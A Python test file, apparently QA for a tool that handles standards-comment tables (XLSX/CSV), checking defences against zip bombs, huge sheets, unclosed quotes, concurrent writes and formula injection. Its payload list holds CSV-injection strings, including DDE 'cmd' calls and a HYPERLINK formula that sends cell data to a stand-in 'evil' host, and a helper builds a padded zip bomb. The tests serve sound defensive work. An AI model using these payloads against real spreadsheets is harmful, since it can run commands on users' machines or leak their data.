"""QA pass 13: the 意见汇总处理表 against hostile input (far cells, zip bombs, formula cells, scale, huge CSV
cells, races, unlistable folders, unclosed quotes)."""

from __future__ import annotations

import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from authoring.errors import InputError
from authoring.paperwork.table import ResolutionTable, Row, read_table, table_bytes


def _table(rows: int = 3, content: str = "意见{k}") -> ResolutionTable:
    return ResolutionTable(
        title="养老机构卓越服务规范", stage="征求意见稿",
        rows=[Row(location=f"4.{k}", content=content.format(k=k), unit="华东研究院", key=f"k{k:06d}")
              for k in range(1, rows + 1)])


def _written(path: Path, table: ResolutionTable | None = None) -> Path:
    path.write_bytes(table_bytes(table or _table(), path.suffix.lstrip("."), today="2026年12月4日"))
    return path


def _capped(code: str, cap_mb: int = 1200, timeout: int = 120) -> subprocess.CompletedProcess:
    """``code`` run by a fresh Python under an address-space cap (a runaway read fails fast, never takes the machine)."""
    cap = cap_mb * 1024 * 1024
    prelude = f"import resource; resource.setrlimit(resource.RLIMIT_AS, ({cap}, {cap}))\n"
    return subprocess.run([sys.executable, "-c", prelude + code], capture_output=True, text=True, timeout=timeout,
                          cwd=Path(__file__).resolve().parents[2])


# -- A1: a sheet that claims a huge extent is read by the cells that hold values ----------------------------------

def test_a_table_with_cells_at_the_far_corners_is_read_in_bounded_memory(tmp_path: Path) -> None:
    """One cell at XFD5 and one at A1048576 (a 7 KB file) made the reader build 1,048,576 × 16,384 cells."""
    from openpyxl import load_workbook

    path = _written(tmp_path / "far.xlsx")
    book = load_workbook(path)
    sheet = book.worksheets[0]
    sheet.cell(5, 16384).value = "远"
    sheet.cell(1048576, 1).value = "底"
    book.save(path)
    assert path.stat().st_size < 1_000_000
    done = _capped(f"from authoring.paperwork.table import read_table\n"
                   f"t = read_table({str(path)!r})\nprint(len(t.rows), t.title)")
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.split() == ["3", "养老机构卓越服务规范"]


# -- A2: a comment table is a zip: the draft reader's zip-bomb guard applies before openpyxl opens it ----------------

def _padded(source: Path, target: Path, blanks: int) -> Path:
    """``source`` with ``blanks`` spaces before the sheet's data (valid XML that inflates far past its size)."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for name in src.namelist():
            data = src.read(name)
            if name == "xl/worksheets/sheet1.xml":
                at = data.index(b"<sheetData")
                data = data[:at] + b" " * blanks + data[at:]
            out.writestr(name, data)
    return target


def test_a_table_that_inflates_like_a_bomb_is_refused_before_it_is_read(tmp_path: Path) -> None:
    bomb = _padded(_written(tmp_path / "good.xlsx"), tmp_path / "bomb.xlsx", 8 * 1024 * 1024)
    assert bomb.stat().st_size < 100_000
    with pytest.raises(InputError) as caught:
        read_table(bomb)
    assert "zip 炸弹" in caught.value.zh and str(caught.value.path) == str(bomb)


def test_comments_refuses_a_bomb_table_in_one_line(tmp_path: Path, capsys) -> None:  # noqa: ANN001
    from tests.paperwork.conftest import run_zh

    bomb = _padded(_written(tmp_path / "good.xlsx"), tmp_path / "bomb.xlsx", 8 * 1024 * 1024)
    code, out, err = run_zh(["comments", str(tmp_path / "nothing.docx"), "--update", str(bomb),
                             "-o", str(tmp_path / "new.xlsx")], capsys)
    assert code == 2 and "Traceback" not in err
    assert [line for line in err.splitlines() if "炸弹" in line] == [err.strip().splitlines()[0]]
    assert "bomb.xlsx" in err and not (tmp_path / "new.xlsx").exists()
    code, out, err = run_zh(["comments", str(tmp_path / "nothing.docx"), "--update", str(bomb),
                             "-o", str(tmp_path / "new.xlsx"), "--lang", "en"], capsys)
    assert code == 2 and "zip bomb" in err


# -- A6: no cell written starts a formula (CSV injection); the comment reads back as the reviewer wrote it ----------

_FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
             '=HYPERLINK("http://evil/?x="&A1,"click")', "\t=1+1", "\r=1+1", "'=already quoted", "''=twice", "'plain"]


def _hostile() -> ResolutionTable:
    return ResolutionTable(title="养老机构卓越服务规范", rows=[
        Row(location="-4.1" if k == 0 else f"4.{k}", content=text, unit="=HYPERLINK华东研究院" if k % 2 else "@单位",
            decision="+采纳" if k == 1 else "", remark="-" if k == 2 else "", key=f"k{k}")
        for k, text in enumerate(_FORMULAS)])


def test_no_csv_cell_written_starts_a_formula_and_the_text_reads_back_unchanged(tmp_path: Path) -> None:
    import csv
    import io

    path = tmp_path / "t.csv"
    path.write_bytes(table_bytes(_hostile(), "csv", today="2026年12月4日"))
    cells = [c for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    back = read_table(path)
    # (a table is read with each cell's surrounding blanks stripped, as ever)
    assert [(r.location, r.content, r.unit, r.decision, r.remark) for r in back.rows] == [
        (r.location, r.content.strip(), r.unit, r.decision, r.remark) for r in _hostile().rows]


def test_no_xlsx_cell_written_is_a_formula_and_the_text_reads_back_unchanged(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    path.write_bytes(table_bytes(_hostile(), "xlsx", today="2026年12月4日"))
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    back = read_table(path)
    assert [(r.content, r.unit, r.decision) for r in back.rows] == [
        (r.content.strip(), r.unit, r.decision) for r in _hostile().rows]


# -- A7: writing a table is linear in its rows ----------------------------------------------------------------------

def test_writing_an_xlsx_table_scans_the_sheet_no_more_for_more_rows(monkeypatch) -> None:  # noqa: ANN001
    """openpyxl's ``max_row`` scans every cell: asked once per appended row, 8,000 comments took 66 s."""
    from openpyxl.worksheet.worksheet import Worksheet

    scans = {"cells": 0}
    original = Worksheet.max_row.fget

    def counted(sheet):  # noqa: ANN001, ANN202
        scans["cells"] += len(sheet._cells)
        return original(sheet)

    monkeypatch.setattr(Worksheet, "max_row", property(counted))
    cost = []
    for rows in (200, 800):
        scans["cells"] = 0
        table_bytes(_table(rows), "xlsx", today="2026年12月4日")
        cost.append(scans["cells"])
    assert cost[1] <= 4 * max(cost[0], 1), cost


def test_eight_thousand_comments_are_written_as_xlsx_in_seconds() -> None:
    import time

    started = time.perf_counter()
    data = table_bytes(_table(8000, content="意见{k}" + "内容" * 20), "xlsx", today="2026年12月4日")
    assert time.perf_counter() - started < 30 and data.startswith(b"PK")


# -- A8: a CSV cell over Python csv's 128 KB limit; B10: a CSV quote never closed ------------------------------------

def test_a_csv_cell_over_128_kb_is_read(tmp_path: Path) -> None:
    path = _written(tmp_path / "t.csv", _table(2, content="意见{k}" + "长" * 150_000))
    assert path.stat().st_size < 1_000_000
    assert [len(r.content) for r in read_table(path).rows] == [150_003, 150_003]


def test_a_csv_cell_over_the_bound_is_refused_in_one_line_naming_its_line(tmp_path: Path, monkeypatch,  # noqa: ANN001
                                                                          capsys) -> None:
    from authoring.paperwork import table as T
    from tests.paperwork.conftest import run_zh

    path = _written(tmp_path / "t.csv", _table(3))
    lines = path.read_bytes().decode("utf-8-sig").split("\r\n")
    lines[2] = lines[2].replace("意见2", "意见2" + "长" * 200_000)
    path.write_bytes("\r\n".join(lines).encode("utf-8-sig"))
    monkeypatch.setattr(T, "_CSV_CELL_LIMIT", 100_000)
    with pytest.raises(InputError) as caught:
        read_table(path)
    assert "第 3 行" in caught.value.zh and str(caught.value.path) == str(path)
    code, out, err = run_zh(["comments", str(tmp_path / "nothing.docx"), "--update", str(path),
                             "-o", str(tmp_path / "new.csv")], capsys)
    assert code == 2 and len(err.strip().splitlines()) == 1 and "t.csv" in err and "内部错误" not in err
    code, out, err = run_zh(["comments", str(tmp_path / "nothing.docx"), "--update", str(path),
                             "-o", str(tmp_path / "new.csv"), "--lang", "en"], capsys)
    assert code == 2 and "line 3" in err


@pytest.mark.parametrize("later", ["意见4", ""], ids=["a later quoted cell", "none"])
def test_a_csv_quote_never_closed_is_reported_with_its_line_not_swallowing_rows(tmp_path: Path, later: str) -> None:
    """``2,"4.2,意见2,…``: the quote runs on to the next quote in the file (QA's file: 1,"4.1,=cmd|…, read as one
    row where there were five), or to its end."""
    table = _table(5)
    if later:
        table.rows[3].content = '意见4，建议改为"A,B"'
    path = _written(tmp_path / "t.csv", table)
    text = path.read_bytes().decode("utf-8-sig").replace("2,4.2,", '2,"4.2,', 1)
    path.write_bytes(text.encode("utf-8-sig"))
    with pytest.raises(InputError) as caught:
        read_table(path)
    assert "第 3 行" in caught.value.zh and "引号" in caught.value.zh and "line 3" in caught.value.en


def test_a_stray_quote_within_one_line_is_still_read(tmp_path: Path) -> None:
    """A hand-typed ``"甲"方`` (a quote that closes before the cell ends) is read as Excel reads it, as before."""
    path = _written(tmp_path / "t.csv", _table(2))
    text = path.read_bytes().decode("utf-8-sig").replace("意见1", '"甲"方意见1', 1)
    path.write_bytes(text.encode("utf-8-sig"))
    assert [r.content for r in read_table(path).rows] == ["甲方意见1", "意见2"]


# -- A11: two runs writing one table at once: the second waits for the first and keeps its rows ---------------------

def test_a_run_waits_for_another_writing_the_same_table_and_keeps_its_rows(copies: Path, tmp_path: Path) -> None:
    """Another run holds the table's lock (``.t.xlsx.lock``) and writes a row meanwhile: this run waits, then
    reads the table that run wrote, so the row is kept (the last write used to win, each run saying it added
    its rows)."""
    import fcntl
    import time

    from tests.paperwork.conftest import FIRST, SECOND

    table = tmp_path / "t.xlsx"
    command = [sys.executable, "-c", "import sys; from authoring.cli.main import main; sys.exit(main(sys.argv[1:]))"]
    root = Path(__file__).resolve().parents[2]
    done = subprocess.run([*command, "comments", str(copies / FIRST), "-o", str(table), "--lang", "zh"],
                          capture_output=True, text=True, cwd=root, timeout=120)
    assert done.returncode == 0, done.stderr
    first = read_table(table)
    with open(table.with_name(".t.xlsx.lock"), "a+b") as held:
        fcntl.flock(held.fileno(), fcntl.LOCK_EX)
        second = subprocess.Popen([*command, "comments", str(copies / SECOND), "-o", str(table), "--lang", "zh"],
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=root)
        time.sleep(4)
        waiting = second.poll() is None
        # what the other run writes while it holds the lock
        first.rows.append(Row(location="9", content="另一次运行加入的意见", unit="协会", key="other-run"))
        table.write_bytes(table_bytes(first, "xlsx"))
        fcntl.flock(held.fileno(), fcntl.LOCK_UN)
    out, err = second.communicate(timeout=120)
    assert second.returncode == 0, err
    assert waiting and "另一个 stdauthor comments 正在写入这张表" in err
    rows = read_table(table).rows
    assert "另一次运行加入的意见" in [r.content for r in rows]
    assert {r.unit for r in rows} >= {"华东养老服务研究院", "康宁颐养中心", "协会"}
    assert not table.with_name(".t.xlsx.lock").exists()


# -- A14: a folder that cannot be listed is named, with the reason ----------------------------------------------------

@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_folder_that_cannot_be_listed_is_named_with_the_reason(copies: Path, tmp_path: Path, monkeypatch,  # noqa: ANN001
                                                                 capsys, lang: str) -> None:
    import os

    from tests.paperwork.conftest import run_zh

    locked = copies / "锁住的单位"
    locked.mkdir()
    (locked / "某单位.docx").write_bytes((copies / "华东养老服务研究院.docx").read_bytes())
    scandir = os.scandir

    def refusing(path=".", *rest):  # noqa: ANN001, ANN202 - what a mode-000 folder gives a user without root
        if Path(path) == locked:
            raise PermissionError(13, "Permission denied", str(path))
        return scandir(path, *rest)

    monkeypatch.setattr(os, "scandir", refusing)
    code, out, err = run_zh(["comments", str(copies), "-o", str(tmp_path / "t.docx"), "--lang", lang], capsys)
    reason = "无法读取文件夹：没有权限" if lang == "zh" else "cannot read the folder: Permission denied"
    assert [line for line in err.splitlines() if str(locked) in line] == [f"{locked}: {reason}，已跳过"
                                                                        if lang == "zh" else f"{locked}: {reason}; skipped"]
    assert code == 2 and (tmp_path / "t.docx").exists()  # the copies that could be read went in
    code, out, err = run_zh(["comments", str(locked), "-o", str(tmp_path / "u.docx"), "--lang", lang], capsys)
    # the folder alone: its line first, then that no copy could be used
    assert code == 2 and str(locked) in err.splitlines()[0] and reason in err.splitlines()[0]
